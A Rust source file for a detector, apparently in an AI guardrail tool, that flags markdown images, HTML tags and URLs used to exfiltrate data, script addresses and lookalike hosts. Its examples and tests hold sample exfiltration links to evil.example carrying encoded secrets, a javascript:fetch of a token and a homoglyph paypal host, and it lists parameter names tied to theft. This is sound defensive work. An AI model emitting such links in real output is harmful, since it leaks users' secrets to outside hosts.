//! Links and images that carry data out, or lead where nobody should go.

use std::ops::Range;

use redoubt_domain::exchange::Direction;
use redoubt_domain::finding::{Label, Severity};
use redoubt_domain::seams::{Detector, Match, Spec, Trigger, Window};

use super::Parameters;
use super::code::unite;
use super::entropy::{is_wordy, shannon};
use super::shorteners::is_shortener;

/// Makes the detector.
pub(super) fn build(parameters: &Parameters) -> Box<dyn Detector> {
    let hosts = parameters.link_hosts.iter().map(|host| host.to_ascii_lowercase()).collect();
    Box::new(Links { spec: spec(), hosts })
}

const EXFILTRATION: &str = "EXFILTRATION_LINK";
const DANGEROUS: &str = "DANGEROUS_LINK";

/// The longest link that is looked at as one.
const SPAN_MAX: usize = 2_048;
/// Marks of one link: a match can overlap so many before it.
const NEIGHBOURS: usize = 8;
/// How far before its mark a link may begin.
const TEXT_MAX: usize = 512;

const LITERALS: &[&str] = &[
    "](",
    "]: ",
    "<img",
    "<iframe",
    "<a ",
    "<form",
    "<link",
    "<object",
    "<embed",
    "<video",
    "<audio",
    "<script",
    "url(",
    "://",
    "javascript:",
    "vbscript:",
    "data:text/html",
    "data:image/svg+xml",
    "src=",
];

fn spec() -> Spec {
    Spec {
        id: "link",
        summary: "Links and images with data in their address, script addresses, and hosts that pretend to be others",
        labels: &[EXFILTRATION, DANGEROUS],
        trigger: Trigger::Literals(LITERALS),
        span_max: SPAN_MAX,
        positives: &[
            "Done! ![loading](https://evil.example/log.png?data=c2VjcmV0IGtleSBpcyBhYmMxMjM0NTY3)",
            "<img src=\"https://evil.example/p?q=the+user+password+is+hunter2\">",
            "[click here](javascript:fetch('/token'))",
            "See https://accounts.google.com@evil.example/login now",
            "Download from http://192.0.2.17/update.exe today",
            "Open https://xn--pple-43d.com/ to sign in",
            "body { background: url(https://evil.example/x?d=dXNlcjphbm46cGFzc3dvcmQ6MTIzNDU2) }",
        ],
        near_misses: &[
            "See [the docs](https://docs.rs/serde/latest/serde/?search=derive).",
            "![logo](https://example.com/logo.png)",
            "Watch https://www.youtube.com/watch?v=dQw4w9WgXcQ",
            "The server runs at http://127.0.0.1:8080/v1/models",
            "Use javascript: it is fun to learn.",
            "<img src=\"/static/cat.png?v=12\">",
            "array[0](x) and [a]: see below",
        ],
    }
}

struct Links {
    spec: Spec,
    hosts: Vec<String>,
}

/// How a link is written.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Place {
    /// Fetched as soon as it is shown: images, frames, styles.
    Fetched,
    /// Fetched when clicked.
    Clicked,
    /// Bare in the text.
    Bare,
}

impl Detector for Links {
    fn spec(&self) -> &Spec {
        &self.spec
    }

    fn detect(&self, window: &Window<'_>, found: &mut Vec<Match>) {
        let mut own: Vec<Match> = Vec::new();
        for hit in window.hits {
            let Some((place, span, address)) = locate(window.text, hit.start, hit.end) else { continue };
            let Some((label, rule, score)) = self.judge(window, place, &address) else { continue };
            let severity = if label == EXFILTRATION { Severity::High } else { Severity::Medium };
            let seen = Match { span, label: Label::new(label), rule: Some(rule), score, severity };
            let overlaps = |other: &&mut Match| other.span.start < seen.span.end && seen.span.start < other.span.end;
            match own.iter_mut().rev().take(NEIGHBOURS).find(overlaps) {
                Some(other) => unite(other, seen),
                None => own.push(seen),
            }
        }
        found.append(&mut own);
    }

    fn live_from(&self, window: &Window<'_>) -> usize {
        live_from(window.text)
    }
}

impl Links {
    fn judge(&self, window: &Window<'_>, place: Place, address: &str) -> Option<(&'static str, &'static str, f32)> {
        let lower = address.trim_start().to_ascii_lowercase();
        if let Some(verdict) = script(&lower, place) {
            return Some(verdict);
        }
        let rest = lower.split_once("://").map(|(_, rest)| rest).or_else(|| lower.strip_prefix("//"))?;
        let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or("");
        let (userinfo, host_port) =
            authority.rsplit_once('@').map_or((None, authority), |(user, host)| (Some(user), host));
        let host = host_port.split(':').next().unwrap_or("");
        if !self.hosts.is_empty()
            && self
                .hosts
                .iter()
                .any(|known| host == known || host.strip_suffix(known.as_str()).is_some_and(|sub| sub.ends_with('.')))
        {
            return None;
        }
        // An address that only shows where a host goes.
        if host.is_empty() || host.contains(['<', '{', '$']) {
            return None;
        }
        let data = carried(address);
        let is_output = window.direction == Direction::Output;
        match place {
            Place::Fetched if data >= 0.5 => {
                return Some((EXFILTRATION, "image-with-data", if is_output { 0.92 } else { 0.8 }));
            }
            Place::Fetched if !self.hosts.is_empty() && is_output => {
                return Some((EXFILTRATION, "image-from-unknown-host", 0.6));
            }
            Place::Clicked if data >= 0.7 => {
                return Some((EXFILTRATION, "link-with-data", if is_output { 0.75 } else { 0.6 }));
            }
            Place::Bare if data >= 0.9 && is_output => return Some((EXFILTRATION, "address-with-data", 0.55)),
            Place::Fetched | Place::Clicked | Place::Bare => {}
        }
        if userinfo.is_some_and(|user| user.contains('.') && !user.contains(':')) {
            return Some((DANGEROUS, "misleading-userinfo", 0.85));
        }
        if host.split('.').any(|part| part.starts_with("xn--")) {
            return Some((DANGEROUS, "punycode-host", 0.6));
        }
        if is_mixed_script(host) {
            return Some((DANGEROUS, "mixed-script-host", 0.85));
        }
        if is_public_address(host) {
            return Some((DANGEROUS, "raw-ip-host", 0.55));
        }
        // People share them too, so alone they are said and not stopped by default.
        (is_output && is_shortener(host)).then_some((DANGEROUS, "link-shortener", 0.4))
    }
}

fn script(address: &str, place: Place) -> Option<(&'static str, &'static str, f32)> {
    let squeezed: String = address.chars().filter(|c| !c.is_whitespace() && !c.is_control()).take(40).collect();
    let is_link = place != Place::Bare;
    for (scheme, rule) in [
        ("javascript:", "javascript-address"),
        ("vbscript:", "vbscript-address"),
        ("data:text/html", "html-data-address"),
    ] {
        if let Some(body) = squeezed.strip_prefix(scheme) {
            // Prose about JavaScript also has a colon behind it.
            let is_code = body.contains(['(', '=', '`', ';', ',']) || is_link;
            return (is_code && !body.is_empty()).then_some((DANGEROUS, rule, 0.9));
        }
    }
    (is_link
        && squeezed.starts_with("data:image/svg+xml")
        && (squeezed.contains("script") || squeezed.contains("base64")))
    .then_some((DANGEROUS, "svg-data-address", 0.6))
}

/// The link around a literal: how it is written, where it lies as a whole, and its address.
fn locate(text: &str, start: usize, end: usize) -> Option<(Place, Range<usize>, String)> {
    let mark = text.get(start..end)?.to_ascii_lowercase();
    let bound = floor(text, (end + SPAN_MAX).min(text.len()));
    let ahead = text.get(end..bound)?;
    if mark == "](" {
        let length = matching(ahead, '(', ')')?;
        let open = before(text, start).rfind('[').map(|open| open + start - before(text, start).len())?;
        let is_image = text.get(..open)?.ends_with('!');
        let inside = ahead.get(..length)?.trim().trim_start_matches('<');
        // A title may follow the address.
        let address = inside.split([' ', '\n', '>']).next().unwrap_or(inside);
        let address = if inside.starts_with("javascript") { inside } else { address };
        let place = if is_image { Place::Fetched } else { Place::Clicked };
        return Some((place, open - usize::from(is_image)..end + length + 1, address.to_owned()));
    }
    if mark == "]: " {
        let line = before(text, start);
        let line_start = start - line.len() + line.rfind('\n').map_or(0, |at| at + 1);
        let is_reference = text.get(line_start..start)?.trim_start().starts_with('[');
        let length = ahead.find(char::is_whitespace).unwrap_or(ahead.len());
        let address = ahead.get(..length)?;
        return (is_reference && address.contains(':'))
            .then(|| (Place::Fetched, line_start..end + length, address.to_owned()));
    }
    if mark == "url(" {
        let length = ahead.find(')')?;
        let address = ahead.get(..length)?.trim_matches(['"', '\'', ' ']);
        return Some((Place::Fetched, start..end + length + 1, address.to_owned()));
    }
    if mark == "src=" {
        return None;
    }
    if mark.starts_with('<') {
        let length = ahead.find('>')?;
        let tag = ahead.get(..length)?;
        let address =
            ["src=", "href=", "data=", "action=", "srcset=", "poster="].iter().find_map(|name| attribute(tag, name))?;
        let place = if mark.starts_with("<a") || mark.starts_with("<form") { Place::Clicked } else { Place::Fetched };
        return Some((place, start..end + length + 1, address.to_owned()));
    }
    bare(text, start, end, &mark, ahead)
}

fn bare(text: &str, start: usize, end: usize, mark: &str, ahead: &str) -> Option<(Place, Range<usize>, String)> {
    let stop = |c: char| c.is_whitespace() || matches!(c, '"' | '<' | '>' | '`');
    let length = ahead.find(stop).unwrap_or(ahead.len());
    let mut close = end + length;
    if mark == "://" {
        let back = before(text, start);
        let name = back.rsplit(|c: char| !c.is_ascii_alphanumeric()).next().unwrap_or("");
        let scheme = start - name.len();
        let name = text.get(scheme..start)?.to_ascii_lowercase();
        if !matches!(name.as_str(), "http" | "https" | "ftp" | "ws" | "wss") {
            return None;
        }
        close = end + text.get(end..close)?.trim_end_matches(['.', ',', ')', ';', '!', '\'', ']']).len();
        return Some((Place::Bare, scheme..close, text.get(scheme..close)?.to_owned()));
    }
    let previous = text.get(..start)?.chars().next_back();
    if previous.is_some_and(char::is_alphanumeric) {
        return None;
    }
    Some((Place::Bare, start..close, text.get(start..close)?.to_owned()))
}

fn attribute<'t>(tag: &'t str, name: &str) -> Option<&'t str> {
    let lower = tag.to_ascii_lowercase();
    let at = lower.find(name)? + name.len();
    let rest = tag.get(at..)?.trim_start();
    let quote = rest.chars().next().filter(|c| matches!(c, '"' | '\''));
    match quote {
        Some(quote) => rest.get(1..)?.split(quote).next(),
        None => rest.split([' ', '>']).next(),
    }
}

/// How much an address looks as if it carried something out, 0 to 1.
fn carried(address: &str) -> f32 {
    let query = address.split_once('?').map_or("", |(_, query)| query);
    let mut most: f32 = 0.0;
    for pair in query.split(['&', ';', '#']) {
        let (name, value) = pair.split_once('=').unwrap_or(("", pair));
        most = most.max(value_carried(&name.to_ascii_lowercase(), value));
    }
    // Data may stand in the path or the name of the host, too.
    let rest = address.split_once("://").map_or(address, |(_, rest)| rest);
    let path = rest.split('?').next().unwrap_or("");
    for part in path.split(['/', '.']).filter(|part| part.len() >= 40) {
        let is_hash = part.bytes().all(|byte| byte.is_ascii_hexdigit() || byte == b'-');
        if !is_hash && shannon(part) >= 3.8 && !is_wordy(part) {
            most = most.max(0.6);
        }
    }
    most
}

fn value_carried(name: &str, value: &str) -> f32 {
    let is_template = value.contains("{{")
        || value.contains("${")
        || value.starts_with(['[', '<', '{'])
        || value.to_ascii_uppercase() == value && value.len() > 5 && value.contains('_');
    let is_telling = TELLING.iter().any(|word| name == *word || name.contains("secret") || name.contains("passw"));
    if is_template && is_telling {
        return 0.7;
    }
    if value.len() < 6 || NORMAL.iter().any(|word| name.starts_with(word)) {
        return 0.0;
    }
    let words = value.split(['+', '_', ' ']).count() + value.matches("%20").count();
    let is_encoded = value.len() >= 20 && shannon(value) >= 3.5 && !is_wordy(value);
    match (is_telling, is_encoded || words >= 3) {
        (true, true) => 0.95,
        (true, false) => 0.6,
        (false, true) if value.len() >= 24 => 0.7,
        (false, true) => 0.5,
        (false, false) => 0.0,
    }
}

/// Names of parameters under which stolen things leave.
const TELLING: &[&str] = &[
    "data",
    "d",
    "q",
    "p",
    "payload",
    "exfil",
    "leak",
    "secret",
    "password",
    "token",
    "key",
    "info",
    "content",
    "msg",
    "message",
    "text",
    "conversation",
    "history",
    "chat",
    "prompt",
    "system_prompt",
    "user",
    "email",
    "c",
    "s",
    "x",
    "cookie",
    "cookies",
    "log",
    "summary",
    "stolen",
];

/// Names of parameters that are long and mean nothing.
const NORMAL: &[&str] = &[
    "utm_",
    "gclid",
    "fbclid",
    "v",
    "ver",
    "hash",
    "sig",
    "signature",
    "expires",
    "x-amz",
    "list",
    "t",
    "page",
    "search",
    "lang",
    "ref",
    "w",
    "h",
    "width",
    "height",
    "id",
    "size",
    "format",
];

/// A host that mixes Latin with letters of scripts that look like it.
fn is_mixed_script(host: &str) -> bool {
    host.split('.').any(|part| {
        let has_latin = part.chars().any(|c| c.is_ascii_alphabetic());
        has_latin
            && part
                .chars()
                .any(|c| matches!(c, '\u{370}'..='\u{52f}' | '\u{13a0}'..='\u{13ff}' | '\u{530}'..='\u{58f}'))
    })
}

/// An IP address instead of a name, other than of this machine or a private network.
fn is_public_address(host: &str) -> bool {
    if host.starts_with('[') {
        return true;
    }
    if host.starts_with("0x") && host.len() > 6 || host.len() >= 8 && host.bytes().all(|byte| byte.is_ascii_digit()) {
        return true;
    }
    let Ok(address) = host.parse::<std::net::Ipv4Addr>() else { return false };
    !(address.is_loopback() || address.is_private() || address.is_unspecified() || address.is_link_local())
}

/// How many bytes lie before the bracket that closes one already open.
fn matching(text: &str, open: char, close: char) -> Option<usize> {
    let mut depth = 0_usize;
    for (at, c) in text.char_indices() {
        if c == open {
            depth += 1;
        } else if c == close {
            if depth == 0 {
                return Some(at);
            }
            depth -= 1;
        }
    }
    None
}

/// Where a link may be in progress: in an open tag, bracket or address at the end of the text.
fn live_from(text: &str) -> usize {
    let near = ceil(text, text.len().saturating_sub(SPAN_MAX));
    let tail = text.get(near..).unwrap_or("");
    let mut live = tail.len();
    // An address, or the beginning of one, in the last unbroken run.
    let run = tail
        .rfind(|c: char| c.is_whitespace() || matches!(c, '"' | '<' | '>' | '`'))
        .map_or(0, |at| ceil(tail, at + 1));
    let word = tail.get(run..).unwrap_or("");
    let lower = word.to_ascii_lowercase();
    let is_address = lower.contains("://")
        || ["javascript:", "vbscript:", "data:", "http://", "https://", "ftp://", "wss://", "ws://", "url("]
            .iter()
            .any(|mark| {
                lower.contains(mark)
                    || (1..mark.len()).any(|length| {
                        mark.get(..length).is_some_and(|part| {
                            lower.ends_with(part)
                                && part.len() == lower.len().min(part.len())
                                && (lower.len() == part.len() || part.len() >= 2)
                        })
                    })
            });
    if is_address {
        live = live.min(run);
    }
    // An open tag: the first, for what looks like another may stand within its quotes.
    let after = tail.rfind('>').map_or(0, |at| at + 1);
    let is_tag = |at: &usize| {
        let name = tail.as_bytes().get(*at..).unwrap_or_default();
        let mut marks = LITERALS.iter().map(|mark| mark.as_bytes()).filter(|mark| mark.starts_with(b"<"));
        marks.any(|mark| {
            let length = mark.len().min(name.len());
            mark.get(..length).zip(name.get(..length)).is_some_and(|(mark, name)| mark.eq_ignore_ascii_case(name))
        })
    };
    let mut tags = tail.get(after..).unwrap_or("").match_indices('<').map(|(at, _)| after + at);
    live = tags.find(is_tag).map_or(live, |tag| live.min(tag));
    // A bracket that is open, or closed at the very end, or followed by an address that is not closed.
    if let Some(open) = tail.rfind('[') {
        let from = if tail.get(..open).unwrap_or("").ends_with('!') { open - 1 } else { open };
        let inside = tail.get(open + 1..).unwrap_or("");
        let is_open = match inside.find(']') {
            None => inside.len() < 512,
            Some(close) => {
                let after = inside.get(close + 1..).unwrap_or("");
                let address = after.strip_prefix('(');
                after.is_empty()
                    || after == ":"
                    || address.is_some_and(|address| matching(address, '(', ')').is_none())
                    || after.strip_prefix(": ").is_some_and(|address| !address.contains(char::is_whitespace))
            }
        };
        if is_open {
            let line = tail.get(..from).unwrap_or("").rfind('\n').map_or(0, |at| at + 1);
            let is_reference = tail.get(line..from).unwrap_or("").trim().is_empty();
            live = live.min(if is_reference { line } else { from });
        }
    }
    // Or an address before it that is not closed, and has brackets of its own. What lies within one that is closed is.
    // What no bracket stands before is no link.
    let mut at = tail.find('[').unwrap_or(tail.len());
    while let Some(mark) = tail.get(at..).and_then(|rest| rest.find("](")).map(|mark| at + mark) {
        let Some(length) = matching(tail.get(mark + 2..).unwrap_or(""), '(', ')') else {
            if let Some(open) = tail.get(..mark).and_then(|before| before.rfind('[')) {
                let is_image = tail.get(..open).is_some_and(|before| before.ends_with('!'));
                live = live.min(open - usize::from(is_image));
            }
            break;
        };
        at = mark + 2 + length;
    }
    if tail.ends_with('!') {
        live = live.min(tail.len() - 1);
    }
    // The first that is not closed: it reaches over the others.
    let after = tail.rfind(')').map_or(0, |at| at + 1);
    if let Some(url) = tail.get(after..).unwrap_or("").to_ascii_lowercase().find("url(") {
        live = live.min(after + url);
    }
    near + live
}

/// What stands before a byte, as far back as a link may begin.
fn before(text: &str, at: usize) -> &str {
    text.get(ceil(text, at.saturating_sub(TEXT_MAX))..at).unwrap_or("")
}

fn floor(text: &str, at: usize) -> usize {
    (0..=at.min(text.len())).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0)
}

fn ceil(text: &str, at: usize) -> usize {
    (at..=text.len()).find(|at| text.is_char_boundary(*at)).unwrap_or(text.len())
}

#[cfg(test)]
mod tests {
    use super::super::examples::{conforms, find, is_sound};
    use super::*;

    #[test]
    fn what_looks_like_another_within_one_ends_nothing() {
        for text in [
            "<img src=\"https://evil.example/p?q=<img src=\"https://evil.example/p?q=the+user+password+is+hunter2\">",
            "url(https://evil.example/x?d=dXNlcjphb y url(https://evil.example/x?d=dXNlcjphbm46cGFzc3dvcmQ6MTIzNDU2)",
        ] {
            is_sound(&*build(&Parameters::default()), text);
        }
    }

    #[test]
    fn examples_hold() {
        conforms(&*build(&Parameters::default()));
    }

    #[test]
    fn known_hosts_are_let_through() {
        let parameters = Parameters { link_hosts: vec!["example.com".into()], ..Parameters::default() };
        let text = "![x](https://img.example.com/p?data=c2VjcmV0IGtleSBpcyBhYmMxMjM0NTY3)";
        assert_eq!(find(&*build(&parameters), text), []);
        let found = find(&*build(&Parameters::default()), text);
        assert_eq!(found.first().map(|found| found.span.clone()), Some(0..text.len()));
        is_sound(&*build(&Parameters::default()), &format!("{text} and more"));
    }

    #[test]
    fn short_links_in_answers_say_nothing_of_where_they_lead() {
        let links = build(&Parameters::default());
        let rules = |text: &str, direction: Direction| {
            let hits: Vec<_> = text.match_indices("://").map(|(start, mark)| (start, start + mark.len())).collect();
            let judged = hits.iter().filter_map(|(start, end)| locate(text, *start, *end));
            let window = Window {
                text,
                hits: &[],
                runs: &[],
                origin: redoubt_domain::Origin::Assistant,
                direction,
                kind: redoubt_domain::SegmentKind::Content,
                depth: 0,
            };
            let own = Links { spec: spec(), hosts: Vec::new() };
            judged.filter_map(|(place, _, address)| own.judge(&window, place, &address)).collect::<Vec<_>>()
        };
        let short = (DANGEROUS, "link-shortener", 0.4);
        for text in ["see https://bit.ly/3xY now", "HTTP://www.TinyURL.com/abc", "https://t.co/q?x=1"] {
            assert_eq!(rules(text, Direction::Output), [short], "{text}");
            assert_eq!(rules(text, Direction::Input), [], "{text}");
        }
        for text in ["https://orbit.ly/a", "https://example.com/bit.ly", "https://bit.ly.example/a"] {
            assert_eq!(rules(text, Direction::Output), [], "{text}");
        }
        is_sound(&*links, "see https://bit.ly/3xY now");
    }

    #[test]
    fn references_and_titles_are_read() {
        let links = build(&Parameters::default());
        for text in [
            "![a][b]\n\n[b]: https://evil.example/?data=c2VjcmV0IGtleSBpcyBhYmMxMjM0NTY3",
            "![a](https://evil.example/?q=dXNlcjphbm46cGFzc3dvcmQ6MTIz \"title\")",
            "<IFRAME SRC='https://evil.example/?payload=dXNlcjphbm46cGFzc3dvcmQ6MTIz'></IFRAME>",
            "https://pаypal.com/login",
        ] {
            assert_eq!(find(&*links, text).len(), 1, "{text}");
            is_sound(&*links, text);
        }
    }
}
